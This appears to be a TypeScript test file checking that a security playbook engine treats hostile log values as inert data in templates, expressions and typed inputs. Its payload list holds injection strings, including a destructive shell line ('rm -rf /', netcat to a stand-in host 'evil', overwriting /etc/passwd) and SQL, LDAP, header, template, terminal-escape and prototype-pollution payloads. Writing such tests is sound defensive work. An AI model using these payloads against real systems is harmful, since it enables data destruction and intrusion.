import { describe, expect, it } from 'vitest';
import type { Incident } from '../correlate/incident.ts';
import { evaluate, parseExpression } from './cel/expression.ts';
import { toCaseIncident } from './playbook/case.ts';
import { dryRun } from './playbook/dry-run.ts';
import { toFacts } from './playbook/facts.ts';
import { fillInputs } from './playbook/inputs.ts';
import { parsePlaybook } from './playbook/parse-playbook.ts';

/*
 * What stands in a log is hostile. Whatever it says, it reaches a connector as the value it is, in the
 * member it was bound to, and nothing on the way reads it: no shell, no query, no template, no CEL.
 */

const PAYLOADS: readonly (readonly [string, string])[] = [
  ['shell', '$(rm -rf /); `id` | nc evil 1 & > /etc/passwd'],
  ['SQL', `' OR 1=1; DROP TABLE runs; --`],
  ['LDAP', '*)(uid=*))(|(uid=*'],
  ['an HTTP header', 'x\r\nX-Admin: 1\r\n\r\nGET / HTTP/1.1'],
  ['our template', `\${{ incident.title }}`],
  ['our template, in halves', '}} ${{ steps.a.output'],
  ['CEL', '" || true || "'],
  ['another template', `{{7*7}} <%= 7*7 %> #{7*7} \${7*7}`],
  ['a terminal', '\u001b]0;owned\u0007\u001b[2J\u202egpj.exe'],
  ['JSON', '","verb":"net.ip.unblock","x":"'],
  ['YAML', '\n- do: undo.all\n'],
  ['a prototype', '__proto__'],
];
const hole = (text: string): string => `\${{ ${text} }}`;
const TEXT = `playbook: p
inputs: { who: text }
steps:
  - id: say
    do: notify.chat.post
    with: { text: '${hole('inputs.who')}', said: 'By ${hole('inputs.who')}!', deep: [{ user: '${hole('item')}' }] }
    reason: 'About ${hole('inputs.who')}'
  - when: inputs.who == "nobody" || item == "nobody"
    steps: [{ id: never, do: notify.page.send, with: { text: never } }]
  - switch: inputs.who
    cases: { nobody: [{ id: neither, do: notify.page.send, with: { text: never } }] }
    else: [{ id: sure, ask: 'Is it ${hole('inputs.who')}?' }]
`;
const { playbook } = parsePlaybook(TEXT, 'p.yml');
const incident: Incident = toCaseIncident({
  behaviours: [],
  severity: 'high',
  p: 0.5,
  entities: [],
});

describe('hostile values of logs', () => {
  it.each(PAYLOADS)('%s stays the value it is', (...[, value]) => {
    if (!playbook) throw new Error('the playbook must read');
    const inputs = fillInputs(playbook, { who: value });
    if (!inputs.ok) throw new Error(inputs.problem.detail);
    const facts = {
      incident: toFacts({ ...incident, title: value }),
      inputs: inputs.value,
      item: value,
    };
    const { planned, status } = dryRun({ playbook, facts, at: incident.lastAt });
    expect(status).toBe('succeeded');
    expect(planned).toEqual([
      {
        kind: 'act',
        stepId: 'say',
        verb: 'notify.chat.post',
        with: { text: value, said: `By ${value}!`, deep: [{ user: value }] },
        reason: `About ${value}`,
      },
      { kind: 'ask', stepId: 'sure', question: `Is it ${value}?` },
    ]);
  });

  it.each(PAYLOADS)('%s decides nothing by being read as an expression', (...[, value]) => {
    const parsed = parseExpression('item == "nobody"');
    expect(parsed.ok && evaluate(parsed.value, { item: value })).toEqual({
      ok: true,
      value: false,
    });
  });

  it('inputs with a type take no value of another form', () => {
    const typed = parsePlaybook(
      'playbook: p\ninputs: { ip: ip, url: url, host: host, mail: email, hash: hash }\nsteps: [{ stop: succeeded }]\n',
      'p.yml',
    ).playbook;
    if (!typed) throw new Error('the playbook must read');
    const good = {
      ip: '192.0.2.1',
      url: 'https://a.example/x',
      host: 'ws-1',
      mail: 'a@b.example',
      hash: 'd41d8cd98f00b204e9800998ecf8427e',
    };
    expect(fillInputs(typed, good).ok).toBe(true);
    for (const name of Object.keys(good))
      for (const [, value] of PAYLOADS.filter(([, text]) => text !== '__proto__'))
        expect([name, fillInputs(typed, { ...good, [name]: value }).ok]).toEqual([name, false]);
  });
});
